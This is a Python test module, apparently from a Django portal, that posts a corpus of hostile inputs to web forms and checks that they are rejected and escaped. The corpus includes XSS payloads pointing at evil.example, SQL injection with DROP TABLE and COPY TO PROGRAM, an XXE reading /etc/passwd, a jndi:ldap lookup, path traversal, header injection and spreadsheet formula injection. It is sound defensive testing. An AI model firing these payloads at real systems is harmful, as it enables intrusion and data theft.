"""Hostile input for every form of the portal: a corpus and `assert_form_survives`.

A form joins the suite with one call, e.g. in a test module::

    @pytest.mark.parametrize("lang", ["fr", "en"])
    def test_signup_survives_hostile_input(client, lang):
        assert_form_survives(client, f"/{lang}/signup/", {"email": "a@example.fr", ...}, ["email", "siret"])

Each corpus entry is posted to each named field, the other fields keeping their valid base value. Whatever the
entry, the portal answers below 500; when it shows the form again (200) the entry is never echoed unescaped, the
page is in the URL's language, an error is shown, and the other fields still hold what was typed.
"""

import random
from html import escape
from html.parser import HTMLParser

# --- the corpus ------------------------------------------------------------------------------------------------

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>alert(document.cookie)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    '<form action="https://evil.example"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<b>bold</b><i>italic</i>",
    "<!-- comment -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "`-alert(1)-`",
    "${alert(1)}",
    "</script><script>alert(1)</script>",
    '<object data="javascript:alert(1)">',
    "<embed src=javascript:alert(1)>",
    '<base href="https://evil.example/">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<isindex type=image src=1 onerror=alert(1)>",
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR "1"="1',
    "admin'--",
    "'; DROP TABLE accounts_user; --",
    "1; DROP TABLE structures_structure",
    "' UNION SELECT password FROM accounts_user --",
    "' UNION SELECT NULL, NULL, NULL --",
    "1' AND SLEEP(5)--",
    "'; SELECT pg_sleep(5); --",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "' AND extractvalue(1, concat(0x7e, version())) --",
    "%' OR '%'='",
    "_%",
    "%%",
    "\\'; --",
    "1' ORDER BY 100--",
    "'||(SELECT current_user)||'",
    "') OR ('a'='a",
    "admin' /*",
    "*/ OR 1=1 /*",
    "'; COPY (SELECT '') TO PROGRAM 'id'; --",
    "'; INSERT INTO accounts_user (email) VALUES ('x@example.fr'); --",
    "0x27",
    "CHAR(39)",
    "1e1000",
    "' or ''='",
    "$$; SELECT 1; $$",
    "E'\\x27'",
    "ʼ OR 1=1 --",
]

LONG = [
    "a" * 10_000,
    "<" * 10_000,
    "é" * 10_000,
    "😀" * 10_000,
    "0" * 10_000,
    " " * 10_000,
    "<script>" * 1_250,
    "%" * 10_000,
    "'" * 10_000,
    "a@" + "b" * 9_995 + ".fr",
    "8" * 10_000,
    "ア" * 10_000,
]

CONTROL = [f"ab{chr(code)}cd" for code in [*range(0, 32), 127, *range(0x80, 0xA0)]] + [
    "\x00",
    "\x00" * 16,
    "fournisseur@example.fr\x00",
    "\x00<script>alert(1)</script>",
    "\r\n\r\n",
    "\t",
    "\ufeffBOM",
    "\ufffd\ufffe",
]

SCRIPTS_AND_EMOJI = [
    "Ĳsselmeer Ærøskøbing Œuvre ß ẞ",
    "Zoë Saldaña-Müller",
    "Łódź Świętokrzyskie",
    "Москва, ул. Тверская",
    "Αθήνα",
    "東京都千代田区",
    "北京市朝阳区",
    "서울특별시",
    "القاهرة",
    "ירושלים",
    "मुंबई",
    "กรุงเทพมหานคร",
    "Ελληνικά and English and 日本語",
    "e\u0301e\u0301e\u0301",  # combining accents
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
    "\u202eevil\u202c",  # right-to-left override
    "abc\u200bdef\u200c\u200d",  # zero-width characters
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈🇫🇷🇪🇺",
    "💩",
    "🔥" * 40,
    "ﬁnance",  # ligature (NFKC: "finance")
    "Ｆｕｌｌｗｉｄｔｈ",
    "ℌ𝔢𝔩𝔩𝔬",
    "𝟖𝟑𝟏𝟐𝟖𝟓𝟗𝟕𝟖𝟎𝟎𝟎𝟏𝟗",  # mathematical digits
    "٨٣١٢٨٥٩٧٨٠٠٠١٩",  # Arabic-Indic digits
    "८३१२८५९७८०००१९",  # Devanagari digits
    "Ⅻ ⅻ ½ ²",
    "İıİı",  # Turkish dotted/dotless i (case mapping changes length)
    "ǅungla ǈudevit",
]

MALFORMED_EMAILS = [
    "plainaddress",
    "@example.fr",
    "fournisseur@",
    "fournisseur@@example.fr",
    "fournisseur@example..fr",
    "fournisseur@.example.fr",
    ".fournisseur@example.fr",
    "fournisseur.@example.fr",
    "four..nisseur@example.fr",
    "fournisseur@example",
    "fournisseur@-example.fr",
    "fournisseur@exam_ple.fr",
    "four nisseur@example.fr",
    "fournisseur@example.fr.",
    "fournisseur@[127.0.0.1]",
    "fournisseur@[IPv6:::1]",
    '"quoted"@example.fr',
    "fournisseur@example.fr (commentaire)",
    "Fournisseur <fournisseur@example.fr>",
    "fournisseur@exämple.fr",
    "fôurnisseur@example.fr",
    "fournisseur@example.f",
    "f" * 65 + "@example.fr",
    "fournisseur@" + "a" * 250 + ".fr",
    "fournisseur@example.fr\nBcc: victime@example.fr",
    "fournisseur@example.fr\r\nSubject: hameçonnage",
    "fournisseur%40example.fr",
    "fournisseur@example.fr,autre@example.fr",
    "fournisseur@example.fr;autre@example.fr",
    "mailto:fournisseur@example.fr",
    "fournisseur@localhost",
    "fournisseur@xn--",
    "ＦＯＵＲＮＩＳＳＥＵＲ＠ＥＸＡＭＰＬＥ．ＦＲ",
    "fournisseur@еxample.fr",  # Cyrillic "е"
    "fournisseur+étiquette@example.fr",
    "FOURNISSEUR@EXAMPLE.FR",
    " fournisseur@example.fr ",
    "fournisseur@example.fr\u200b",
    "fournisseur@@",
    "@",
    "a@b",
    "fournisseur@example.fr@example.fr",
]

IDENTIFIER_NEAR_MISSES = [
    # SIRET: 14 digits with a Luhn key (La Poste: SIREN 356000000, sum of digits multiple of 5).
    "8312859780001",  # 13 digits
    "831285978000190",  # 15 digits
    "83128597800018",  # Luhn key off by one
    "83128597800O19",  # letter O for zero
    "831 285 978 0001 9",
    "831.285.978.00019",
    "831-285-978-00019",
    " 83128597800019 ",
    "83128597800019\n",
    "８３１２８５９７８０００１９",  # fullwidth digits
    "00000000000000",
    "11111111111111",
    "-83128597800019",
    "+83128597800019",
    "8.3128597800019e13",
    "83128597800019.0",
    "35600000000049",  # La Poste SIREN, digit sum not a multiple of 5
    "356000000",  # a SIREN, not a SIRET
    "SIRET83128597800019",
    "83128597800019 83128597800019",
    "99999999999999",
    "12345678901234",
    # Intra-community VAT numbers (UE_HORS_FRANCE)
    "FR12345678901",
    "FR 40 303 265 045",
    "FR4030326504",
    "DE12345678",
    "XX123456789",
    "GB123456789",
    "EL12345678",
    "fr40303265045",
    "FR40303265045FR40303",
    "BE0",
    # ISO country code + name (HORS_UE)
    "US",
    "USA CORPORATION INCORPORATED LIMITED",
    "ZZ COMPANY",
    "us company",
    "1234",
    "U$ C0MPANY",
    "CHSwiss GmbH",
    # RIDET (New Caledonia), TAHITI (French Polynesia)
    "12345678",
    "12345678901",
    "1234567.001",
    "ABCDEFGHI",
    "A1234567",
    "A123456789",
    "123456 789",
    "B12345.678",
    # Private persons (PARTICULIER) and structures being registered (AUTRE)
    "",
    " ",
    "D",
    "123 456",
    "Jean-Pierre  O'Neil",
    "EN COURS",
    "-",
    "N/A",
]

MISCELLANEOUS = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ request.META }}",
    "{{settings.SECRET_KEY}}",
    "%s%s%s%s%n",
    "%(password)s",
    "{0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/null",
    "file:///etc/passwd",
    "https://evil.example/",
    "//evil.example",
    "None",
    "null",
    "undefined",
    "NaN",
    "true",
    "-1",
    "0",
    "9" * 400,
    "1e308",
    "-0.0",
    "[]",
    "{}",
    '{"$gt": ""}',
    "Robert'); DROP TABLE students;--",
    "X-Injected: yes\r\nSet-Cookie: sessionid=evil",
    "=cmd|' /C calc'!A0",  # spreadsheet formula (CSV export)
    "+33 1 23 45 67 89",
    "@SUM(1+1)",
]

CORPUS = list(
    dict.fromkeys(
        MARKUP
        + SQL
        + LONG
        + CONTROL
        + SCRIPTS_AND_EMOJI
        + MALFORMED_EMAILS
        + IDENTIFIER_NEAR_MISSES
        + MISCELLANEOUS
    )
)


# --- the check -------------------------------------------------------------------------------------------------


# How the DSFR forms show an error: at the field (group in error, error list), or above the form (alert).
ERROR_MARKS = (
    "fr-input-group--error",
    "fr-select-group--error",
    "errorlist",
    "fr-alert--error",
    "fr-error-text",
)


class _FormFields(HTMLParser):
    """The values the page shows in its fields (first element of each name), and the page's language."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.values, self.types, self.lang = {}, {}, None
        self._textarea = self._select = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        name = attrs.get("name")
        if tag == "html":
            self.lang = attrs.get("lang")
        elif tag == "input" and name and name not in self.values:
            kind = (attrs.get("type") or "text").lower()
            if kind in ("checkbox", "radio"):
                self.types[name] = kind
                if "checked" in attrs:
                    self.values[name] = attrs.get("value", "on")
            else:
                self.values[name] = attrs.get("value") or ""
                self.types[name] = kind
        elif tag == "textarea" and name and name not in self.values:
            self._textarea = name
            self.values[name] = ""
            self.types[name] = "textarea"
        elif tag == "select" and name and name not in self.values:
            self._select = name
            self.types[name] = "select"
        elif tag == "option" and self._select and "selected" in attrs:
            self.values[self._select] = attrs.get("value", "")

    def handle_endtag(self, tag):
        if tag == "textarea" and self._textarea:
            # Like browsers: the newline right after <textarea> (Django's template writes one) is not content.
            value = self.values[self._textarea]
            self.values[self._textarea] = value[2:] if value.startswith("\r\n") else value.removeprefix("\n")
            self._textarea = None
        elif tag == "select":
            self._select = None

    def handle_data(self, data):
        if self._textarea:
            self.values[self._textarea] += data


def _page_html(html):
    fields = _FormFields()
    fields.feed(html)
    return fields


def _page(response):
    return _page_html(response.content.decode())


def corpus_sample(size=40, *, seed=0):
    """A deterministic sample of the corpus, stratified: each family in proportion to its size, at least one entry
    of each when `size` allows it."""
    families = [MARKUP, SQL, LONG, CONTROL, SCRIPTS_AND_EMOJI, MALFORMED_EMAILS, IDENTIFIER_NEAR_MISSES]
    families.append(MISCELLANEOUS)
    generator = random.Random(seed)
    chosen = []
    for family in families:
        share = max(1, round(size * len(family) / len(CORPUS)))
        chosen += generator.sample(family, min(share, len(family)))
    chosen = list(dict.fromkeys(chosen))
    generator.shuffle(chosen)  # below one entry per family, which families are left out depends on the seed
    return chosen[:size]


def assert_form_survives(
    client,
    url,
    base_data,
    field_names,
    *,
    corpus=None,
    expect_error=True,
    method="post",
    page_url=None,
    follow=False,
):
    """Post every corpus entry to every field in `field_names` of the form at `url` (the other fields keep their
    valid `base_data` value) and check that the portal holds. `method="get"` for search forms.

    `corpus` is a list for every field, or a dict field → list (e.g. the full corpus on the first text field and
    `corpus_sample()` on the others). `page_url` is the page that shows the form when it posts elsewhere (the
    forms of "Mon Compte"). With `follow`, a redirect is followed and the page it leads to is checked for
    server errors, unescaped echo and its language (a value accepted and shown elsewhere, or in a message).

    A form shown again (200, or 400 for the views that answer an invalid form with it) is fully checked.
    Every post comes from its own client address, so that per-address limits (login lockout, rate limits) see
    distinct clients and the form itself is what answers. `expect_error=False` for forms where a hostile value
    may well be accepted (free text)."""
    corpora = (
        corpus
        if isinstance(corpus, dict)
        else dict.fromkeys(field_names, CORPUS if corpus is None else corpus)
    )
    language = url.strip("/").split("/")[0]
    baseline = client.get(page_url or url).content.decode()
    missing = [name for name in field_names if name not in _page_html(baseline).types]
    assert not missing, f"{page_url or url} shows no field named {missing}"
    failures = []
    for field in field_names:
        for index, payload in enumerate(corpora[field]):
            address = f"10.{(index >> 8) & 255}.{index & 255}.{field_names.index(field) + 1}"
            data = {**base_data, field: payload}
            response = getattr(client, method)(url, data, REMOTE_ADDR=address, follow=follow)
            where = f"{field}={payload[:80]!r}{'…' if len(payload) > 80 else ''}"
            if response.status_code >= 500:
                failures.append(f"{where}: HTTP {response.status_code}")
                continue
            if response.status_code not in (200, 400) or not response["Content-Type"].startswith("text/html"):
                continue
            body = response.content.decode()
            if escape(payload) != payload and payload in body and payload not in baseline:
                failures.append(f"{where}: echoed unescaped")
            page = _page(response)
            if language in ("fr", "en") and page.lang != language:
                failures.append(f"{where}: page in {page.lang!r}, not {language!r}")
            if getattr(response, "redirect_chain", None):
                continue  # another page than the form's: what it shows is not the form's fields
            if expect_error and not any(mark in body for mark in ERROR_MARKS):
                failures.append(f"{where}: no error shown")
            for other in field_names:
                if page.types.get(other) in ("password", "hidden", None):
                    continue
                if other == field and page.types[other] in ("select", "checkbox", "radio"):
                    continue  # a choice cannot show a value it does not offer
                typed = data[other]
                if isinstance(typed, list | tuple):
                    continue  # several values (multiple choices): not compared
                if page.types[other] == "checkbox":
                    kept = (other in page.values) == (typed not in ("", None, False))
                else:
                    kept = page.values.get(other) == str(typed) or (other == field and _has_control(typed))
                if not kept:
                    failures.append(
                        f"{where}: field {other!r} shows {page.values.get(other, '')[:80]!r}, not what was typed"
                    )
    failures.sort(key=lambda failure: (": HTTP 5" not in failure, "unescaped" not in failure))
    assert not failures, f"{len(failures)} failure(s) on {url}:\n" + "\n".join(failures[:40])


def _has_control(value):
    """NUL, carriage returns and other control characters: HTML cannot carry them back verbatim."""
    return any(ord(char) < 32 or 127 <= ord(char) < 160 for char in value if char not in "\t\n")
